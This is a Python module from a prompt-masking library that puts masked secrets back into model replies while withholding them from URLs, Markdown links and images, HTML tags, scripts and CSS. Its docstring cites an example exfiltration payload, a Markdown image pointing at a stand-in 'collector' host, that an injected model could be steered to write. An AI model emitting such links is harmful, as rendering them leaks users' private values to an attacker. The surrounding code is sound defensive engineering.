"""Put real values back: byte for byte into our own masked text, carefully into a model's reply.

A reply is untrusted. Whoever steers the model can make it write ``![](https://collector/?q=PLACEHOLDER)``,
and showing the reply would send the value off. So nothing is restored where a viewer may fetch, link or run
it: URLs, Markdown links, images and reference definitions, HTML tags, scripts and styles, CSS ``url()``.
Credentials are not restored at all. Where a reply is ambiguous it counts as such a place, and the placeholder
stays.
"""

from __future__ import annotations

import html
import json
import re

from safe_prompt.masking import reply_syntax as syntax
from safe_prompt.masking.placeholders import PLACEHOLDER
from safe_prompt.masking.reply_json import JsonStrings
from safe_prompt.masking.vault import Vault


def unmask(text: str, vault: Vault, trusted: bool = False) -> str:
    """The text with placeholders of this vault replaced by what they stand for.

    ``trusted``: the exact inverse of masking, for text nobody else has touched. Otherwise the text is a
    model's reply (see the module's description): placeholders are recognised in other case, escaped, or with
    spaces or hyphens, and values are JSON-escaped inside JSON strings.
    """
    if trusted:
        return _undo(text, vault)
    restorer = Restorer(vault)
    return restorer.feed(text) + restorer.close()


def _undo(text: str, vault: Vault) -> str:
    layouts = vault.layouts()
    if layouts:
        from safe_prompt.masking.layout import without_layout

        text = without_layout(text, layouts)
    pieces: list[str] = []
    position = 0
    for match in PLACEHOLDER.finditer(text):
        entry = vault.entry(match.group())
        if entry is None:
            continue
        start, end = match.span()
        if entry.quoted and text[start - 1 : start] == '"' == text[end : end + 1] and start > position:
            start, end = start - 1, end + 1
        pieces += (text[position:start], entry.raw)
        position = end
    pieces.append(text[position:])
    return "".join(pieces)


_JSON_LANGUAGES = frozenset(("json", "jsonc", "json5", "jsonl", "ndjson", "geojson"))
_RAW_ELEMENTS = frozenset(("script", "style"))
_MOST_BRACKETS = 50
_SPACE = " \t\r\n\f\v"


class Restorer:
    """Restores a reply as it streams in: ``feed`` and ``close`` together give what ``unmask`` gives at once.

    What is held back is the word that is still arriving, and a placeholder in square brackets until it is
    clear that they are no link: at most some 600 code points, and nothing once ``close`` was called.
    """

    __slots__ = (
        "_at", "_blank", "_brackets", "_buffer", "_depth", "_element", "_escaped", "_fence", "_json",
        "_json_reply", "_label", "_last", "_out", "_quote", "_started", "_state", "_vault",
    )  # fmt: skip

    def __init__(self, vault: Vault) -> None:
        self._vault = vault
        self._start()

    def _start(self) -> None:
        self._buffer = ""  # what has arrived, from a little before what has not been given out
        self._at = 0  # where the part begins that has not been given out
        self._out: list[str] = []
        self._started = False
        self._state = "text"  # text, url, tag, element, target, definition
        self._brackets = 0  # square brackets open in this paragraph
        self._label = False  # one of them stands at the start of its line
        self._depth = 0  # round brackets open in a link's target
        self._quote = ""  # what will close the quotes or angle brackets open in a tag or target
        self._last = ""  # the last character in a tag or target that is no space
        self._escaped = False
        self._blank = False  # nothing but space since the last line end of a target or definition
        self._element = ""  # name of the tag, or of the element whose text is not restored
        self._fence = False
        self._json_reply = False
        self._json = JsonStrings()

    def feed(self, chunk: str) -> str:
        """Take in the next piece of the reply and give out what is settled."""
        self._buffer += chunk
        return self._run(final=False)

    def close(self) -> str:
        """Give out the rest. Afterwards the restorer starts anew."""
        rest = self._run(final=True)
        self._start()
        return rest

    def _run(self, *, final: bool) -> str:
        if not self._started:
            if not final and syntax.JSON_BEGUN.match(self._buffer):
                return ""
            self._json_reply = syntax.JSON_START.match(self._buffer) is not None
            self._json.restart(self._json_reply)
            self._started = True
        steps = {
            "text": self._text,
            "url": self._url,
            "tag": self._tag,
            "element": self._element_text,
            "target": self._target,
            "definition": self._definition,
        }
        while self._at < len(self._buffer) and steps[self._state](final):
            pass
        out = "".join(self._out)
        self._out.clear()
        # Look-behinds read one character, so a few are kept.
        drop = max(self._at - 8, 0)
        self._buffer = self._buffer[drop:]
        self._at -= drop
        return out

    def _give(self, end: int) -> None:
        """Give out the text up to ``end`` as it is."""
        raw = self._buffer[self._at : end]
        self._out.append(raw)
        self._json.pass_over(raw)
        self._at = end

    # Each step below gives out what it can. It returns whether the next step can go on at once.

    def _text(self, final: bool) -> bool:
        buffer = self._buffer
        settled = len(buffer)
        if not final:
            begun = syntax.BEGINNING.search(buffer, max(self._at, len(buffer) - syntax.WINDOW))
            settled = begun.start() if begun else settled
        while (event := syntax.EVENT.search(buffer, self._at)) and event.start() < settled:
            self._give(event.start())
            if event.lastgroup == "placeholder":
                if not self._placeholder(event, final):
                    return False
            elif event.lastgroup == "mail":
                run = syntax.RUN.match(buffer, self._at)
                self._give(max(run.end() if run else 0, event.end()))
            else:
                self._give(event.end())
                self._enter(event)
            if self._state != "text":
                return True
        if self._at < settled:
            self._give(settled)
        return False

    def _enter(self, event: re.Match[str]) -> None:
        name = event.lastgroup
        if name in {"host", "url"}:
            self._state = "url"
        elif name == "tag":
            self._state, self._element = "tag", (event.group("name") or "").lower()
            if event.group().startswith("</"):
                self._element = ""
            self._quote = self._last = ""
        elif name in {"target", "css"}:
            self._open_target(link=name == "target")
        elif name in {"open", "label"}:
            self._brackets = min(self._brackets + 1, _MOST_BRACKETS)
            self._label = self._label or name == "label"
        elif name == "close":
            self._close_bracket()
        elif name == "blank":
            self._brackets, self._label = 0, False
        elif name == "fence" and not (self._fence and event.group("language")):
            self._fence = not self._fence
            if not self._json_reply:
                self._json.restart(self._fence and event.group("language").lower() in _JSON_LANGUAGES)

    def _close_bracket(self) -> None:
        if self._label and self._buffer[self._at : self._at + 1] == ":":
            self._give(self._at + 1)
            self._state, self._last, self._blank = "definition", "", False
        self._brackets = max(self._brackets - 1, 0)
        self._label = self._label and self._brackets > 0

    def _open_target(self, *, link: bool) -> None:
        self._state, self._depth, self._last = "target", 1, "("
        self._quote, self._escaped, self._blank = "", False, False
        if link:
            self._brackets = max(self._brackets - 1, 0)
            self._label = self._label and self._brackets > 0

    def _placeholder(self, event: re.Match[str], final: bool) -> bool:
        """Restore a placeholder, or leave it. False where what follows must arrive first."""
        kind, number, check = (syntax.INVISIBLE.sub("", event[name]) for name in ("kind", "number", "check"))
        entry = self._vault.entry(f"SP_{kind.upper()}_{number}_{check.lower()}")
        if entry is None:
            self._give(event.start() + 1)  # a real one may begin inside what only looks like one
            return True
        end = event.end()
        before = self._buffer[max(event.start() - 2, 0) : event.start()]
        if syntax.HOST_BEHIND.match(self._buffer, end) or (before[1:] == "@" and before[0].isalnum()):
            self._give(end)
            self._state = "url"
            return True
        if not final and syntax.HOST_BEHIND_BEGUN.match(self._buffer, end):
            return False
        in_link = self._in_link_text(end, final)
        if in_link is None:
            return False
        if in_link or entry.one_way:
            self._give(end)
            return True
        value = entry.value
        if syntax.HTML_GAP.search(event.group()):
            value = html.escape(value)
        for _ in range(self._json.depth):
            value = json.dumps(value, ensure_ascii=False)[1:-1]
        self._out.append(value)
        self._json.pass_value()
        self._at = end
        return True

    def _in_link_text(self, end: int, final: bool) -> bool | None:
        """Whether the brackets around a placeholder turn out to be a link's text. None: not known yet."""
        depth = self._brackets
        if not depth:
            return False
        buffer, limit = self._buffer, end + syntax.LINK_TEXT
        for match in syntax.BRACKETS.finditer(buffer, end, limit):
            if match.group() == "[":
                depth += 1
            elif match.group() != "]":
                return False
            else:
                behind = buffer[match.end() : match.end() + 1]
                if not behind and not final:
                    return None
                if behind == "(" or (behind == ":" and self._label):
                    return True
                depth -= 1
                if not depth:
                    return False
        return False if final or len(buffer) >= limit else None

    def _url(self, final: bool) -> bool:
        end = syntax.URL_END.search(self._buffer, self._at)
        if end is None:
            waits = not final and self._buffer.endswith("]")
            self._give(len(self._buffer) - waits)
            return False
        if end.group() == "](":
            self._give(end.end())
            self._open_target(link=True)
        else:
            self._give(end.start())
            self._state = "text"
        return True

    def _tag(self, final: bool) -> bool:
        for place in range(self._at, len(self._buffer)):
            character = self._buffer[place]
            if self._quote:
                if character == self._quote:
                    self._quote = ""
            elif character == ">":
                self._state = "element" if self._element in _RAW_ELEMENTS else "text"
                self._give(place + 1)
                return True
            elif character in "\"'" and self._last == "=":
                self._quote = self._last = character
            elif character not in _SPACE and character != "\\":
                self._last = character
        self._give(len(self._buffer))
        return False

    def _element_text(self, final: bool) -> bool:
        closing = f"</{self._element}"
        place = self._buffer.lower().find(closing, self._at)
        if place < 0:
            self._give(len(self._buffer) if final else max(self._at, len(self._buffer) - len(closing)))
            return False
        self._give(place)
        self._state = "text"
        return True

    def _target(self, final: bool) -> bool:
        for place in range(self._at, len(self._buffer)):
            character = self._buffer[place]
            if character == "\n":
                if self._blank:  # no link goes on over a blank line
                    self._state, self._brackets, self._label = "text", 0, False
                    self._give(place)
                    return True
                self._blank, self._escaped = True, False
                self._quote = "" if self._quote == ">" else self._quote
                self._last = "(" if self._last == "(" else " "
                continue
            if character in _SPACE:
                self._last = "(" if self._last == "(" else " "
                self._escaped = False
                continue
            self._blank = False
            if self._escaped:
                self._escaped = False
            elif character == "\\":
                self._escaped = True
            elif self._quote:
                if character == self._quote:
                    self._quote = ""
            elif character in "\"'" and self._last in {"(", " "}:
                self._quote = character
            elif character == "<" and self._last == "(":
                self._quote = ">"
            elif character == "(":
                self._depth += 1
            elif character == ")":
                self._depth -= 1
                if not self._depth:
                    self._state = "text"
                    self._give(place + 1)
                    return True
            self._last = character if character != "(" else "x"
        self._give(len(self._buffer))
        return False

    def _definition(self, final: bool) -> bool:
        for place in range(self._at, len(self._buffer)):
            character = self._buffer[place]
            if character == "\n":
                if self._last or self._blank:  # the target may stand on the next line, not later
                    self._state = "text"
                    self._give(place)
                    return True
                self._blank = True
            elif character not in _SPACE:
                self._last = character
        self._give(len(self._buffer))
        return False
